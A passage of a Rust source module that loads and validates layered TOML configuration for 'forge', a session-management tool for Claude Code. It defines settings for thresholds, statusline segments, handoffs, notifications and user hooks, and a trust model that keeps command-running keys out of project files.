//! Layered configuration: `.forge/config.toml` over `~/.config/forge/config.toml`
//! (`$XDG_CONFIG_HOME` respected) over built-in defaults, merged field by field.
//!
//! Unknown keys and wrong types are errors that name the key and the file. The hooks
//! and the statusline must never fail on a bad config: they call [`load_or_default`],
//! which logs the error and falls back to the defaults.

use std::collections::BTreeMap;
use std::fmt;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::env::Env;
use crate::model::outcome::Outcome;
use crate::model::session::level::Thresholds;
use crate::model::setup::trust::Trust;
use crate::store::Paths;

/// Context levels and the handoff threshold, in percent.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct ContextConfig {
    /// Start of L1 (default 70).
    pub warn: f64,
    /// Start of L2 (default 85).
    pub critical: f64,
    /// Start of L3 (default 95).
    pub emergency: f64,
    /// The statusline shows `⚠ CTX` and fires the automatic handoff from here (default 70).
    pub handoff_threshold: f64,
}

impl Default for ContextConfig {
    fn default() -> Self {
        Self {
            warn: 70.0,
            critical: 85.0,
            emergency: 95.0,
            handoff_threshold: 70.0,
        }
    }
}

impl ContextConfig {
    /// The level boundaries.
    pub fn thresholds(&self) -> Thresholds {
        Thresholds {
            warn: self.warn,
            critical: self.critical,
            emergency: self.emergency,
        }
    }
}

/// The statusline segments shown by default, in their default order.
pub const DEFAULT_SEGMENTS: [&str; 7] = [
    "model", "project", "git", "context", "task", "signals", "learn",
];

/// Every statusline segment forge knows: the defaults, then the optional ones read
/// from the payload (`cost`, `duration`, `limits`, `lines`) and from the fleet
/// registry (`elsewhere`), which a user adds to `[statusline] segments`.
pub const SEGMENTS: [&str; 12] = [
    "model",
    "project",
    "git",
    "context",
    "task",
    "signals",
    "learn",
    "cost",
    "duration",
    "limits",
    "lines",
    "elsewhere",
];

/// forge's segments beside a status line it wraps (`forge statusline --wrap`), by
/// default: what only forge knows (the model, folder and branch are the other
/// tool's to show).
pub const DEFAULT_WRAP_SEGMENTS: [&str; 4] = ["context", "task", "signals", "learn"];

/// Where forge's segments go beside a wrapped status line: `after` the other
/// tool's first line, `before` it, or on a `line` of their own under its output.
pub const WRAP_POSITIONS: [&str; 3] = ["after", "before", "line"];

/// What the statusline shows.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct StatuslineConfig {
    /// Segments in order; any of [`SEGMENTS`].
    pub segments: Vec<String>,
    /// Width of the context bar in cells (default 10).
    pub bar_width: u16,
    /// With `forge statusline --wrap`: where forge's segments go (one of
    /// [`WRAP_POSITIONS`]; default `after`, on a line of their own when they would
    /// not fit after the other tool's first line).
    pub wrap_position: String,
    /// With `forge statusline --wrap`: forge's segments, in order (default
    /// [`DEFAULT_WRAP_SEGMENTS`]).
    pub wrap_segments: Vec<String>,
}

impl Default for StatuslineConfig {
    fn default() -> Self {
        Self {
            segments: DEFAULT_SEGMENTS.iter().map(|s| (*s).to_owned()).collect(),
            bar_width: 10,
            wrap_position: "after".into(),
            wrap_segments: DEFAULT_WRAP_SEGMENTS
                .iter()
                .map(|s| (*s).to_owned())
                .collect(),
        }
    }
}

/// Git facts.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct GitConfig {
    /// How long the hooks' git cache is trusted by the statusline, in seconds.
    pub cache_ttl_secs: u64,
}

impl Default for GitConfig {
    fn default() -> Self {
        Self { cache_ttl_secs: 30 }
    }
}

/// Hook behaviour switches.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct HooksConfig {
    /// PreCompact writes a safety-net handoff when the session has none yet.
    pub handoff_on_precompact: bool,
    /// After a proven compaction, the first tool call that is not read-only is denied
    /// once with what to re-read (and Stop blocks once when no tool ran).
    pub compaction_reread: bool,
    /// When Stop warns the person about uncommitted changes: `grew` (past the count
    /// the session started with, or last warned about), `changed` (whenever the count
    /// changed) or `off` ([`crate::model::session::dirty`]). It only changes what forge shows.
    pub dirty_warning: String,
}

impl Default for HooksConfig {
    fn default() -> Self {
        Self {
            handoff_on_precompact: true,
            compaction_reread: true,
            dirty_warning: "grew".into(),
        }
    }
}

/// Learning reminders and `MEMORY.md` housekeeping.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct LearnConfig {
    /// SessionStart reminds the session to run /forge-learn while `learn-pending` is
    /// set (the flag is still kept, for `status` and the dashboard).
    pub nudge: bool,
    /// `forge learn archive` keeps `MEMORY.md` at or under this many lines.
    pub memory_max_lines: usize,
}

impl Default for LearnConfig {
    fn default() -> Self {
        Self {
            nudge: true,
            memory_max_lines: crate::model::setup::memory::MEMORY_MAX_LINES,
        }
    }
}

/// Which pending handoffs SessionStart injects.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct ResumeConfig {
    /// Automatic handoffs (threshold, pre-compact): `recent` (injected while younger
    /// than `max_age`), `always`, or `never` (only named). A handoff the user chose
    /// is always injected.
    pub auto: String,
    /// The age limit of `auto = "recent"`: `30m`, `12h`, `2d`…
    pub max_age: String,
}

impl Default for ResumeConfig {
    fn default() -> Self {
        Self {
            auto: "recent".into(),
            max_age: "12h".into(),
        }
    }
}

impl ResumeConfig {
    /// `max_age` as a duration (validated at load; 12 h if it somehow is not).
    pub fn max_age(&self) -> chrono::Duration {
        crate::model::time::parse_duration(&self.max_age)
            .unwrap_or_else(|| chrono::Duration::hours(12))
    }
}

/// Who is shown as needing attention.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct AttentionConfig {
    /// A live session silent for longer than this leaves "needs attention".
    pub stale_after: String,
}

impl Default for AttentionConfig {
    fn default() -> Self {
        Self {
            stale_after: "30m".into(),
        }
    }
}

impl AttentionConfig {
    /// `stale_after` as a duration (validated at load; 30 min if it somehow is not).
    pub fn stale_after(&self) -> chrono::Duration {
        crate::model::time::parse_duration(&self.stale_after)
            .unwrap_or_else(|| chrono::Duration::minutes(30))
    }
}

/// Handoff retention.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct HandoffsConfig {
    /// SessionEnd prunes handoffs as `forge handoff prune --older-than OLDER_THAN
    /// --keep KEEP` would.
    pub auto_prune: bool,
    /// Handoffs older than this may be pruned.
    pub older_than: String,
    /// The newest this many handoffs are always kept.
    pub keep: usize,
}

impl Default for HandoffsConfig {
    fn default() -> Self {
        Self {
            auto_prune: false,
            older_than: "30d".into(),
            keep: 50,
        }
    }
}

impl HandoffsConfig {
    /// `older_than` as a duration (validated at load; 30 days if it somehow is not).
    pub fn older_than(&self) -> chrono::Duration {
        crate::model::time::parse_duration(&self.older_than)
            .unwrap_or_else(|| chrono::Duration::days(30))
    }
}

/// What the escalation ladder can do at a level.
pub const LADDER_ACTIONS: [&str; 3] = ["handoff", "alert", "wip_commit"];

/// The escalation ladder (`[ladder]`, after anvil's checkpoints): what happens the
/// first time a session reaches each level. L1's `handoff` is the threshold handoff
/// at `[context] handoff_threshold`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct LadderConfig {
    /// At L1 (default: handoff).
    #[serde(rename = "L1")]
    pub l1: Vec<String>,
    /// At L2 (default: alert).
    #[serde(rename = "L2")]
    pub l2: Vec<String>,
    /// At L3 (default: handoff and alert).
    #[serde(rename = "L3")]
    pub l3: Vec<String>,
    /// Branches `wip_commit` never commits on (`*` matches anything).
    pub protected_branches: Vec<String>,
}

impl Default for LadderConfig {
    fn default() -> Self {
        let v = |a: &[&str]| a.iter().map(|s| (*s).to_owned()).collect();
        Self {
            l1: v(&["handoff"]),
            l2: v(&["alert"]),
            l3: v(&["handoff", "alert"]),
            protected_branches: v(&["main", "master", "release/*"]),
        }
    }
}

impl LadderConfig {
    /// The actions at `level`.
    pub fn at(&self, level: crate::model::session::level::Level) -> &[String] {
        use crate::model::session::level::Level;
        match level {
            Level::L0 => &[],
            Level::L1 => &self.l1,
            Level::L2 => &self.l2,
            Level::L3 => &self.l3,
        }
    }
}

/// `forge run` (`[relay]`): when a headless task is handed over to a fresh session.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct RelayConfig {
    /// The context % at which the session is ended and the task carried on. The
    /// default, 75, comes before Claude Code's own compaction on every window (at
    /// about 83.5 % of a 200k window and 96.7 % of a 1M one, docs/client-reference.md §7.1), with
    /// room for a turn of tool output: a higher one never relays a 200k session.
    pub threshold: f64,
    /// The most continuations a chain starts.
    pub max_handoffs: u32,
    /// How long a session gets to end after SIGINT before SIGTERM.
    pub grace_secs: u64,
}

impl Default for RelayConfig {
    fn default() -> Self {
        Self {
            threshold: 75.0,
            max_handoffs: 3,
            grace_secs: 10,
        }
    }
}

/// The hook events a wake message can be sent for.
pub const NOTIFY_EVENTS: [&str; 6] = [
    "stop",
    "idle",
    "permission",
    "session_end",
    "pre_compact",
    "session_start",
];

/// Wake messages to an orchestrating agent (`[notify]`): off until `command` is set,
/// and taken only from the user's own config (it runs a command).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct NotifyConfig {
    /// The program and its first arguments; the message is appended as the last
    /// argument (or given on stdin with `stdin = true`). Empty: off.
    pub command: Vec<String>,
    /// Give the message on stdin instead of as the last argument.
    pub stdin: bool,
    /// Which events send one: any of [`NOTIFY_EVENTS`].
    pub events: Vec<String>,
    /// `async` (started detached; the hook returns at once) or `bidirectional`
    /// (Stop waits for a reply that can keep the session working).
    pub mode: String,
    /// How long a bidirectional Stop waits for the reply.
    pub timeout_secs: u64,
    /// Lines of the tmux pane sent (inside tmux only).
    pub pane_capture_lines: usize,
}

impl Default for NotifyConfig {
    fn default() -> Self {
        Self {
            command: Vec::new(),
            stdin: false,
            events: NOTIFY_EVENTS.iter().map(|e| (*e).to_owned()).collect(),
            mode: "async".into(),
            timeout_secs: 30,
            pane_capture_lines: 40,
        }
    }
}

/// A command of the user's that forge runs on a context event (`[[on_threshold]]`,
/// `[[on_session_start]]`), with one JSON object on stdin.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct UserHook {
    /// Run with `sh -c` in the project folder.
    pub command: String,
    /// Killed (with its process group) after this many seconds (default 10).
    #[serde(default = "default_hook_timeout")]
    pub timeout_secs: u64,
    /// `on_threshold` only: the context % that fires it (default: the handoff threshold).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub threshold: Option<f64>,
    /// `on_threshold` only: at the handoff threshold, this command replaces forge's
    /// own handoff.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub replace_handoff: bool,
}

fn default_hook_timeout() -> u64 {
    10
}

/// The keys a user hook table may have (`threshold` and `replace_handoff` only in
/// `[[on_threshold]]`: see [`hook_list_keys`]).
pub const USER_HOOK_KEYS: [&str; 4] = ["command", "timeout_secs", "threshold", "replace_handoff"];

/// The keys a table of the hook list `list` may have: every one of
/// [`USER_HOOK_KEYS`] in `[[on_threshold]]`; `command` and `timeout_secs` in
/// `[[on_session_start]]`, which has no threshold.
pub fn hook_list_keys(list: &str) -> &'static [&'static str] {
    if list == "on_threshold" {
        &USER_HOOK_KEYS
    } else {
        &["command", "timeout_secs"]
    }
}

/// The lists of user hooks: they run commands, so forge takes them only from the
/// user's own config file (and its agent tables), never from a project's
/// `.forge/config.toml`, which a repository can ship.
pub const HOOK_LISTS: [&str; 2] = ["on_threshold", "on_session_start"];

/// The effective configuration.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Config {
    /// `[context]`.
    pub context: ContextConfig,
    /// `[statusline]`.
    pub statusline: StatuslineConfig,
    /// `[git]`.
    pub git: GitConfig,
    /// `[hooks]`.
    pub hooks: HooksConfig,
    /// `[learn]`.
    pub learn: LearnConfig,
    /// `[resume]`.
    pub resume: ResumeConfig,
    /// `[attention]`.
    pub attention: AttentionConfig,
    /// `[handoffs]`.
    pub handoffs: HandoffsConfig,
    /// `[notify]`.
    pub notify: NotifyConfig,
    /// `[ladder]`.
    pub ladder: LadderConfig,
    /// `[relay]`.
    pub relay: RelayConfig,
    /// `[[on_threshold]]`: commands run once per crossing of their threshold.
    pub on_threshold: Vec<UserHook>,
    /// `[[on_session_start]]`: commands whose output is added to SessionStart's text.
    pub on_session_start: Vec<UserHook>,
}

impl Config {
    /// The `on_threshold` hooks with their effective thresholds.
    pub fn threshold_hooks(&self) -> impl Iterator<Item = (usize, &UserHook, f64)> {
        self.on_threshold
            .iter()
            .enumerate()
            .map(|(i, h)| (i, h, h.threshold.unwrap_or(self.context.handoff_threshold)))
    }
}

/// Where a value came from.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "kind", content = "path", rename_all = "lowercase")]
pub enum Source {
    /// Built in.
    Default,
    /// `~/.config/forge/config.toml`.
    User(PathBuf),
    /// `.forge/config.toml`.
    Project(PathBuf),
    /// An `[agents.<name>]` table (the name, then the file that holds it).
    Agent(String, PathBuf),
}

impl fmt::Display for Source {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Default => f.write_str("default"),
            Self::User(p) => write!(f, "user ({})", p.display()),
            Self::Project(p) => write!(f, "project ({})", p.display()),
            Self::Agent(name, p) => write!(f, "agent {name} ({})", p.display()),
        }
    }
}

/// A config error that names the file and, where it can, the key.
#[derive(Debug, thiserror::Error)]
pub enum ConfigError {
    /// The file is not valid TOML, or a key is unknown or has the wrong type.
    #[error("{path}: {message}")]
    Invalid {
        /// The file.
        path: PathBuf,
        /// What is wrong (names the key).
        message: String,
    },
    /// The file exists but cannot be read.
    #[error("{path}: cannot read: {source}")]
    Read {
        /// The file.
        path: PathBuf,
        /// The I/O error.
        source: std::io::Error,
    },
}

impl ConfigError {
    /// The file the error is about.
    pub fn path(&self) -> &Path {
        match self {
            Self::Invalid { path, .. } | Self::Read { path, .. } => path,
        }
    }
}

/// Every section and its keys, in the order of the config structs (checked against
/// [`Config::default`] by a test, so the two cannot drift).
pub const KEYS: [(&str, &[&str]); 11] = [
    (
        "context",
        &["warn", "critical", "emergency", "handoff_threshold"],
    ),
    (
        "statusline",
        &["segments", "bar_width", "wrap_position", "wrap_segments"],
    ),
    ("git", &["cache_ttl_secs"]),
    (
        "hooks",
        &[
            "handoff_on_precompact",
            "compaction_reread",
            "dirty_warning",
        ],
    ),
    ("learn", &["nudge", "memory_max_lines"]),
    ("resume", &["auto", "max_age"]),
    ("attention", &["stale_after"]),
    ("handoffs", &["auto_prune", "older_than", "keep"]),
    (
        "notify",
        &[
            "command",
            "stdin",
            "events",
            "mode",
            "timeout_secs",
            "pane_capture_lines",
        ],
    ),
    ("ladder", &["L1", "L2", "L3", "protected_branches"]),
    ("relay", &["threshold", "max_handoffs", "grace_secs"]),
];

/// What a key of a project's `.forge/config.toml` may decide. A project file ships
/// with the repository, so it is someone else's until you say otherwise (`forge
/// trust`): what it may change on its own is what forge *shows*.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Side {
    /// Changes what forge shows, or how it orients the session of this very project
    /// (levels, thresholds, segments, wording, what SessionStart injects): applies
    /// from any file.
    Shows,
    /// Makes forge act for you — commit, send to or wait for an orchestrator, delete
    /// files, start or stop sessions, or change what other projects' views show:
    /// from a project file only once you trusted that file's exact content.
    Acts,
    /// Runs a command: only from your own config, never from a project file (an error
    /// there, trusted or not).
    YoursOnly,
}

/// One config key, the side it is on, and what it decides (in words, for `forge
/// trust`, `forge config show` and docs/security.md).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct KeySide {
    /// `section.key`, or a list of tables (`on_threshold`).
    pub key: &'static str,
    /// Its side.
    pub side: Side,
    /// What it decides.
    pub what: &'static str,
}

const fn shows(key: &'static str, what: &'static str) -> KeySide {
    KeySide {
        key,
        side: Side::Shows,
        what,
    }
}

const fn acts(key: &'static str, what: &'static str) -> KeySide {
    KeySide {
        key,
        side: Side::Acts,
        what,
    }
}

const fn yours_only(key: &'static str, what: &'static str) -> KeySide {
    KeySide {
        key,
        side: Side::YoursOnly,
        what,
    }
}

/// Every key of [`KEYS`] and [`HOOK_LISTS`] with its side: the one typed list of
/// what acts (a test fails when a key of the config structs has no side here).
pub const SIDES: [KeySide; 35] = [
    shows("context.warn", "where L1 starts"),
    shows("context.critical", "where L2 starts"),
    shows("context.emergency", "where L3 starts"),
    shows(
        "context.handoff_threshold",
        "where the status line shows ⚠ CTX and writes the automatic handoff (a file in .forge/)",
    ),
    shows("statusline.segments", "the status line's parts"),
    shows("statusline.bar_width", "the context bar's width"),
    shows(
        "statusline.wrap_position",
        "where forge's segments go beside a status line it wraps",
    ),
    shows(
        "statusline.wrap_segments",
        "forge's segments beside a status line it wraps",
    ),
    shows(
        "git.cache_ttl_secs",
        "when the status line marks its git count as stale",
    ),
    shows(
        "hooks.handoff_on_precompact",
        "the safety-net handoff before a compaction (a file in .forge/)",
    ),
    shows(
        "hooks.compaction_reread",
        "after a compaction, ask the session once to re-read its files",
    ),
    shows(
        "hooks.dirty_warning",
        "when Stop warns that the work tree is dirty (a message on your screen)",
    ),
    shows("learn.nudge", "the /forge-learn reminder at SessionStart"),
    shows(
        "learn.memory_max_lines",
        "the MEMORY.md length `forge learn archive` (run by you) keeps to",
    ),
    shows(
        "resume.auto",
        "which automatic handoffs SessionStart injects",
    ),
    shows(
        "resume.max_age",
        "how old an injected automatic handoff may be",
    ),
    acts(
        "attention.stale_after",
        "how long this project's sessions count as live in every other project's fleet views and `elsewhere` segment",
    ),
    acts(
        "handoffs.auto_prune",
        "deletes old handoffs at each new session",
    ),
    acts(
        "handoffs.older_than",
        "which handoffs auto_prune (and a plain `forge handoff prune`) deletes",
    ),
    acts(
        "handoffs.keep",
        "how many handoffs auto_prune (and a plain `forge handoff prune`) keeps",
    ),
    yours_only("notify.command", "the command that gets wake messages"),
    acts(
        "notify.stdin",
        "whether your [notify] command gets the message on stdin or as its last argument",
    ),
    acts(
        "notify.events",
        "which events send your orchestrator a wake message",
    ),
    acts(
        "notify.mode",
        "bidirectional: Stop waits for your orchestrator, whose reply keeps the session working",
    ),
    acts("notify.timeout_secs", "how long a bidirectional Stop waits"),
    acts(
        "notify.pane_capture_lines",
        "how many lines of your terminal's screen are sent to your orchestrator",
    ),
    acts(
        "ladder.L1",
        "what forge does at L1: a handoff, an alert to the model, a WIP commit of your tracked changes",
    ),
    acts(
        "ladder.L2",
        "what forge does at L2: a handoff, an alert to the model, a WIP commit of your tracked changes",
    ),
    acts(
        "ladder.L3",
        "what forge does at L3: a handoff, an alert to the model, a WIP commit of your tracked changes",
    ),
    acts(
        "ladder.protected_branches",
        "the branches a WIP commit never commits on",
    ),
    acts(
        "relay.threshold",
        "where `forge run` ends a session and starts the next",
    ),
    acts("relay.max_handoffs", "how many sessions `forge run` starts"),
    acts(
        "relay.grace_secs",
        "how long `forge run` waits between SIGINT and SIGTERM",
    ),
    yours_only("on_threshold", "commands run at a context threshold"),
    yours_only("on_session_start", "commands run at each SessionStart"),
];

/// The side of `key` (`section.key`, or a hook list); `None` for a key forge does not
/// know. The keys of an `[agents.<name>]` table are on the side of the same key
/// outside it.
pub fn side_of(key: &str) -> Option<Side> {
    SIDES.iter().find(|k| k.key == key).map(|k| k.side)
}

/// The entry of `key` in [`SIDES`].
pub fn key_side(key: &str) -> Option<&'static KeySide> {
    SIDES.iter().find(|k| k.key == key)
}

/// The effective config, with where each value came from.
#[derive(Debug, Clone)]
pub struct Loaded {
    /// The merged values.
    pub config: Config,
    /// `section.key` → source, for every leaf.
    pub sources: BTreeMap<String, Source>,
    /// The files that were looked for, in order (user, project), and whether each exists.
    pub files: Vec<(Source, bool)>,
    /// The agent whose `[agents.<name>]` tables were looked for (`None`: no agent
    /// named, or no file has agent tables).
    pub agent: Option<String>,
    /// The agent names the files define.
    pub agents: Vec<String>,
    /// Where the project file stands: absent, nothing in it acts, trusted, or not
    /// (then its acting keys are in [`Loaded::ignored`]).
    pub trust: Trust,
    /// The project file's keys that act and were left out because it is not
    /// trusted (see [`Side::Acts`]); `trust.why_ignored()` says why.
    pub ignored: Vec<Ignored>,
}

/// A key of the project file left out because the file is not trusted.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Ignored {
    /// As named in messages: `ladder.L1`, `agents.builder.notify.mode`.
    pub key: String,
    /// Its value in the file.
    pub value: toml::Value,
}

impl Loaded {
    /// The defaults alone.
    fn defaults() -> Self {
        Self {
            config: Config::default(),
            sources: BTreeMap::new(),
            files: Vec::new(),
            agent: None,
            agents: Vec::new(),
            trust: Trust::Absent,
            ignored: Vec::new(),
        }
    }

    /// One line for the event log, doctor and `config show`: which keys were left
    /// out, why, and what to run.
    pub fn ignored_summary(&self, project: &Path) -> Option<String> {
        if self.ignored.is_empty() {
            return None;
        }
        let keys: Vec<&str> = self.ignored.iter().map(|i| i.key.as_str()).collect();
        Some(format!(
            "ignored {} of {} ({}): {}; `forge trust --project {}` shows what they do and trusts the file",
            if keys.len() == 1 {
                "the acting key"
            } else {
                "the acting keys"
            },
            project.join(".forge/config.toml").display(),
            self.trust.why_ignored(),
            keys.join(", "),
            crate::model::setup::settings::shell_quote(&project.to_string_lossy())
        ))
    }
}

/// The user config file: `$XDG_CONFIG_HOME/forge/config.toml` or `~/.config/forge/config.toml`.
pub fn user_path(env: &Env) -> Option<PathBuf> {
    env.user_config_dir().map(|d| d.join("config.toml"))
}

/// The largest config file read (a larger one is an error, never cut).
pub const CONFIG_MAX: u64 = 1024 * 1024;

/// Reads one config file and checks its keys (types are checked by [`check_types`],
/// once the keys that will not apply are left out). The project's (under `.forge/`)
/// is opened without following a link; the user's may be a dotfiles manager's link.
/// Returns the text (for its hash) and the table.
fn parse_file(
    path: &Path,
    follow: crate::store::safe::Follow,
) -> Result<Option<(String, toml::Table)>, ConfigError> {
    let text = match crate::store::safe::read_to_string_whole(path, CONFIG_MAX, follow) {
        Ok(t) => t,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        Err(source) => {
            return Err(ConfigError::Read {
                path: path.to_path_buf(),
                source,
            });
        }
    };
    let invalid = |message: String| ConfigError::Invalid {
        path: path.to_path_buf(),
        message,
    };
    let table: toml::Table =
        toml::from_str(&text).map_err(|e| invalid(join_lines(&e.to_string())))?;
    // Check this file alone, so the error names this file: every unknown key at
    // once, then the first wrong type.
    let problems = unknown_keys(&table);
    if !problems.is_empty() {
        return Err(invalid(problems.join("; ")));
    }
    Ok(Some((text, table)))
}

/// Checks the types of a file's values (its own sections and every agent table,
/// whichever agent runs); the error names the file and the key.
fn check_types(path: &Path, table: &toml::Table) -> Result<(), ConfigError> {
    let invalid = |message: String| ConfigError::Invalid {
        path: path.to_path_buf(),
        message,
    };
    let (own, agents) = split_agents(table);
    Config::deserialize(toml::Value::Table(own))
        .map_err(|e| invalid(humanize_de_error(&e.to_string())))?;
    for (name, t) in &agents {
        Config::deserialize(toml::Value::Table(t.clone())).map_err(|e| {
            invalid(format!(
                "in [agents.{name}]: {}",
                humanize_de_error(&e.to_string())
            ))
        })?;
    }
    Ok(())
}

/// Takes the keys that act ([`Side::Acts`]) out of a project file's table — its own
/// sections and its agent tables — and returns them as named in messages
/// (`ladder.L1`, `agents.builder.notify.mode`) with their values, sorted by name.
pub fn take_acting(table: &mut toml::Table) -> Vec<(String, toml::Value)> {
    let mut out = Vec::new();
    take_acting_in(table, "", &mut out);
    out
}

fn take_acting_in(table: &mut toml::Table, prefix: &str, out: &mut Vec<(String, toml::Value)>) {
    for (section, value) in table.iter_mut() {
        if section == AGENTS && prefix.is_empty() {
            for (name, t) in value.as_table_mut().into_iter().flatten() {
                if let Some(t) = t.as_table_mut() {
                    take_acting_in(t, &format!("{AGENTS}.{name}."), out);
                }
            }
            continue;
        }
        let Some(inner) = value.as_table_mut() else {
            continue;
        };
        let acting: Vec<String> = inner
            .keys()
            .filter(|k| side_of(&format!("{section}.{k}")) == Some(Side::Acts))
            .cloned()
            .collect();
        for k in acting {
            if let Some(v) = inner.remove(&k) {
                out.push((format!("{prefix}{section}.{k}"), v));
            }
        }
    }
}

/// What a TOML value is, in words.
fn kind_of(v: &toml::Value) -> String {
    match v {
        toml::Value::String(s) => format!("the text \"{s}\""),
        toml::Value::Integer(i) => format!("the number {i}"),
        toml::Value::Float(f) => format!("the number {f}"),
        toml::Value::Boolean(b) => format!("{b}"),
        toml::Value::Datetime(d) => format!("the date {d}"),
        toml::Value::Array(_) => "a list".to_owned(),
        toml::Value::Table(_) => "a table".to_owned(),
    }
}

/// Unknown sections and keys, and sections that are not tables, each named once.
fn unknown_keys(table: &toml::Table) -> Vec<String> {
    unknown_keys_in(table, "")
}

/// [`unknown_keys`] of a table at `prefix` (`""`, or `agents.builder.` inside an
/// agent table, whose sections are named with it).
fn unknown_keys_in(table: &toml::Table, prefix: &str) -> Vec<String> {
    let mut out = Vec::new();
    // At the top of a file, the agent tables are a section too; they do not nest.
    let sections = || {
        KEYS.iter()
            .map(|(s, _)| format!("[{s}]"))
            .chain(HOOK_LISTS.iter().map(|s| format!("[[{s}]]")))
            .chain(
                prefix
                    .is_empty()
                    .then(|| format!("[{AGENTS}.<name>.<section>]")),
            )
            .collect::<Vec<_>>()
            .join(", ")
    };
    for (name, value) in table {
        if name == AGENTS && prefix.is_empty() {
            out.extend(unknown_agent_keys(value));
            continue;
        }
        if HOOK_LISTS.contains(&name.as_str()) {
            let tables = value
                .as_array()
                .filter(|a| a.iter().all(toml::Value::is_table));
            let Some(tables) = tables else {
                out.push(format!(
                    "`{prefix}{name}` must be a list of tables like [[{prefix}{name}]], found {}",
                    kind_of(value)
                ));
                continue;
            };
            for t in tables.iter().filter_map(toml::Value::as_table) {
                for key in t.keys() {
                    // `threshold` in [[on_session_start]] gets its own message from
                    // the value checks (it belongs to [[on_threshold]]).
                    if !USER_HOOK_KEYS.contains(&key.as_str()) {
                        out.push(format!(
                            "unknown key `{prefix}{name}.{key}` (valid keys in [[{name}]]: {})",
                            hook_list_keys(name).join(", ")
                        ));
                    }
                }
            }
            continue;
        }
        let Some((_, keys)) = KEYS.iter().find(|(s, _)| s == name) else {
            out.push(format!(
                "unknown key `{prefix}{name}` (valid sections{}: {})",
                if prefix.is_empty() {
                    String::new()
                } else {
                    format!(" in [{}]", prefix.trim_end_matches('.'))
                },
                sections()
            ));
            continue;
        };
        let Some(inner) = value.as_table() else {
            out.push(format!(
                "`{prefix}{name}` must be a table like [{prefix}{name}], found {}",
                kind_of(value)
            ));
            continue;
        };
        for key in inner.keys() {
            if !keys.contains(&key.as_str()) {
                out.push(format!(
                    "unknown key `{prefix}{name}.{key}` (valid keys in [{name}]: {})",
                    keys.join(", ")
                ));
            }
        }
    }
    out
}

/// The key of the per-agent tables: `[agents.<name>.<section>]`.
pub const AGENTS: &str = "agents";

/// The problems of an `agents` value: it must be a table of agent tables, each
/// holding sections like the file itself (and no `agents` of its own).
fn unknown_agent_keys(value: &toml::Value) -> Vec<String> {
    let Some(agents) = value.as_table() else {
        return vec![format!(
            "`agents` must hold tables like [agents.builder.context], found {}",
            kind_of(value)
        )];
    };
    let mut out = Vec::new();
    for (agent, table) in agents {
        let Some(t) = table.as_table() else {
            out.push(format!(
                "`agents.{agent}` must be a table like [agents.{agent}.context], found {}",
                kind_of(table)
            ));
            continue;
        };
        if t.contains_key(AGENTS) {
            out.push(format!("`agents.{agent}.agents`: agent tables do not nest"));
            continue;
        }
        out.extend(unknown_keys_in(t, &format!("agents.{agent}.")));
    }
    out
}

/// The first key of `table` (or of one of its agent tables) that runs commands.
fn commands_in(table: &toml::Table) -> Option<String> {
    let (own, agents) = split_agents(table);
    let in_one = |t: &toml::Table| -> Option<&'static str> {
        HOOK_LISTS
            .iter()
            .copied()
            .find(|k| t.contains_key(*k))
            .or_else(|| {
                t.get("notify")
                    .and_then(toml::Value::as_table)
                    .is_some_and(|n| n.contains_key("command"))
                    .then_some("notify.command")
            })
    };
    in_one(&own).map(str::to_owned).or_else(|| {
        agents
            .iter()
            .find_map(|(name, t)| in_one(t).map(|k| format!("agents.{name}.{k}")))
    })
}

/// A parsed file's own settings (its `agents` tables left out) and its agent
/// tables by name.
fn split_agents(table: &toml::Table) -> (toml::Table, BTreeMap<String, toml::Table>) {
    let mut own = table.clone();
    let agents = match own.remove(AGENTS) {
        Some(toml::Value::Table(t)) => t
            .into_iter()
            .filter_map(|(k, v)| match v {
                toml::Value::Table(t) => Some((k, t)),
                _ => None,
            })
            .collect(),
        _ => BTreeMap::new(),
    };
    (own, agents)
}

/// serde's type errors in words a person uses: no Rust type names, and the key first.
/// `invalid type: string "high", expected f64 in `context.warn`` becomes
/// `` `context.warn` must be a number, found "high"``.
fn humanize_de_error(message: &str) -> String {
    let msg = join_lines(message);
    let body = msg
        .strip_prefix("invalid type: ")
        .or_else(|| msg.strip_prefix("invalid value: "))
        .unwrap_or(&msg);
    let expected_words = |e: &str| -> String {
        let e = e.trim();
        match e {
            "f64" | "f32" => "a number".to_owned(),
            "u8" | "u16" => format!(
                "a whole number from 0 to {}",
                if e == "u8" { 255 } else { 65535 }
            ),
            "u32" | "u64" | "usize" => "a whole number (0 or more)".to_owned(),
            "i32" | "i64" | "isize" => "a whole number".to_owned(),
            "a boolean" => "true or false".to_owned(),
            "a sequence" => "a list".to_owned(),
            "a string" | "a char" => "text in quotes".to_owned(),
            _ => match e.strip_prefix("struct ") {
